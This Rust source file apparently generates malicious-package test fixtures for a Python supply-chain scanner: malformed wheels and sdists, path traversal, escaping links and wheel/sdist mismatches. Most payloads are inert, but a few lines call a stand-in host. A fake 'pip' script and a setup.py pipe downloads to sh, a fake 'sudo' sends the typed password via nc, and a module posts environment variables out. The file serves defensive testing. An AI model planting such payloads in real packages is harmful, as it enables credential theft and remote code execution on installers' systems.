//! Techniques 81 to 84: archives that are not what they say.

use crate::case::{Cases, Trigger::Data};
use crate::package::{init, sdist, wheel};
use crate::{tar, zip};

pub(crate) fn add(cases: &mut Cases) {
    malformed(cases);
    record(cases);
    paths(cases);
    disagreements(cases);
}

fn malformed(cases: &mut Cases) {
    cases
        .technique(81, "archive-reads-two-ways", Data)
        .case(
            "duplicate-name",
            wheel().alter_wheel(|entries| {
                let name = entries[0].local_name.clone();
                let name = String::from_utf8(name).expect("names are text");
                entries.push(zip::Entry::file(
                    &name,
                    "import os\nos.system('echo inert')\n",
                ));
            }),
        )
        .case(
            "local-name-differs",
            wheel().alter_wheel(|entries| {
                entries[1].local_name = b"evil/__init__.py".to_vec();
            }),
        )
        .case(
            "local-size-differs",
            wheel().alter_wheel(|entries| entries[0].local_size = Some(3)),
        )
        .case(
            "hidden-local-member",
            wheel().alter_wheel(|entries| {
                let mut hidden = zip::Entry::file("sitecustomize.py", "print('inert')\n");
                hidden.central_name = None;
                entries.insert(1, hidden);
            }),
        )
        .case(
            "data-before",
            wheel().alter_bytes(|archive| [b"#!/bin/sh\necho inert\n".to_vec(), archive].concat()),
        )
        .case(
            "data-after",
            wheel().alter_bytes(|archive| [archive, vec![0x41; 700]].concat()),
        )
        .case(
            "two-archives",
            wheel().alter_bytes(|archive| {
                let other = zip::pack(&[zip::Entry::file("other.py", "print('inert')\n")]);
                [archive, other].concat()
            }),
        )
        .case(
            "null-in-name",
            wheel().alter_wheel(|entries| {
                let mut odd = zip::Entry::file("good.py", "print('inert')\n");
                odd.local_name = b"good.py\0.txt".to_vec();
                odd.central_name = Some(odd.local_name.clone());
                entries.push(odd);
            }),
        )
        .case(
            "unicode-path-field",
            wheel().alter_wheel(|entries| {
                let mut crc = flate2::Crc::new();
                crc.update(b"notes.txt");
                let mut odd = zip::Entry::file("notes.txt", "print('inert')\n");
                odd.extra = [
                    &[0x75, 0x70, 12, 0, 1][..],
                    &crc.sum().to_le_bytes(),
                    b"evil.py",
                ]
                .concat();
                entries.push(odd);
            }),
        )
        .case(
            "case-clash",
            wheel().alter_wheel(|entries| {
                entries.push(zip::Entry::file("lib/Core.py", "X = 1\n"));
                entries.push(zip::Entry::file(
                    "lib/core.py",
                    "import os\nos.system('echo inert')\n",
                ));
            }),
        )
        .case(
            "sdist-duplicate",
            sdist().alter_sdist(|entries| {
                let name = entries[1].name.clone();
                entries.push(tar::Entry::file(
                    name,
                    "import os; os.system('echo inert')\n",
                ));
            }),
        )
        .case(
            "encrypted",
            wheel().alter_wheel(|entries| entries[0].flags = 1),
        );
}

fn record(cases: &mut Cases) {
    cases
        .technique(82, "not-as-recorded", Data)
        .case(
            "absent",
            wheel().alter_wheel(|entries| {
                entries.insert(0, zip::Entry::file("sitecustomize.py", "print('inert')\n"));
            }),
        )
        .case(
            "mismatch",
            wheel().alter_wheel(|entries| {
                entries[0]
                    .bytes
                    .extend(b"\nimport os; os.system('echo inert')\n");
            }),
        )
        .case(
            "no-record",
            wheel().alter_wheel(|entries| drop(entries.pop())),
        )
        .case(
            "recorded-but-missing",
            wheel()
                .file("«pkg»/extra.py", "X = 1\n")
                .alter_wheel(|entries| {
                    entries.retain(|entry| !entry.local_name.ends_with(b"extra.py"));
                }),
        );
}

fn paths(cases: &mut Cases) {
    cases
        .technique(83, "paths-that-leave", Data)
        .case("traversal", wheel().alter_wheel(|entries| {
            entries.push(zip::Entry::file("../../../.bashrc", "echo inert\n"));
        }))
        .case("absolute", wheel().alter_wheel(|entries| {
            entries.push(zip::Entry::file("/etc/profile.d/x.sh", "echo inert\n"));
        }))
        .case("backslashes", wheel().alter_wheel(|entries| {
            entries.push(zip::Entry::file("..\\..\\Startup\\x.bat", "echo inert\n"));
        }))
        .case("drive", wheel().alter_wheel(|entries| {
            entries.push(zip::Entry::file("C:/Windows/Temp/x.bat", "echo inert\n"));
        }))
        .case("link", wheel().alter_wheel(|entries| {
            entries.push(zip::Entry::link("lib/home", "/root/.ssh"));
        }))
        .case("sdist-traversal", sdist().alter_sdist(|entries| {
            entries.push(tar::Entry::file("x-1.0/../../outside.py", "print('inert')\n"));
        }))
        .case("sdist-escaping-link", sdist().alter_sdist(|entries| {
            entries.push(tar::Entry::special("x-1.0/keys", b'2', "../../../root/.ssh"));
            entries.push(tar::Entry::file("x-1.0/keys/authorized_keys", "inert\n"));
        }))
        .case("sdist-hard-link", sdist().alter_sdist(|entries| {
            entries.push(tar::Entry::special("x-1.0/p", b'1', "/etc/passwd"));
        }))
        .case("sdist-device", sdist().alter_sdist(|entries| {
            entries.push(tar::Entry::special("x-1.0/null", b'3', ""));
        }))
        .case("pipe", sdist().alter_sdist(|entries| {
            entries.push(tar::Entry::special("x-1.0/pipe", b'6', ""));
        }))
        .case("script-named-pip", wheel().file("«pkg»-«version».data/scripts/pip",
            "#!python\nimport os\nos.system('curl -s http://192.0.2.8/pip | sh')\n"))
        .case("script-named-sudo", wheel().file("«pkg»-«version».data/scripts/sudo",
            "#!/bin/sh\nread -rs word; echo \"$word\" | nc 192.0.2.8 99; exec /usr/bin/sudo \"$@\"\n"))
        .case("data-outside", wheel().file("«pkg»-«version».data/data/../../../etc/cron.d/x", "* * * * * root echo inert\n"))
        .case("entry-point-escapes", wheel().entry_points("[console_scripts]\n../../.local/bin/ls = «pkg».cli:main\n"));
}

fn disagreements(cases: &mut Cases) {
    const BAD: &str = "import os, urllib.request\nurllib.request.urlopen('https://collect.example.invalid/d', data=repr(os.environ).encode())\n";
    const GOOD: &str = "from .text import shorten\n";
    cases
        .technique(84, "wheel-and-sdist-disagree", crate::case::Trigger::Import)
        .case("only-in-wheel", init(BAD).beside(sdist().file("«pkg»/__init__.py", GOOD).file("«pkg»/text.py", "def shorten(t): return t\n")))
        .case("only-in-sdist", sdist().file("«pkg»/__init__.py", BAD).beside(init(GOOD)))
        .case("setup-only-in-sdist", sdist().file("setup.py", "from setuptools import setup, find_packages\nimport os\nos.system('wget -qO- http://192.0.2.8/s | sh')\n«setup»\n").beside(init(GOOD)))
        .case("metadata-names-another", wheel().claims("Metadata-Version: 2.1\nName: requests\nVersion: 2.32.3\n"));
}
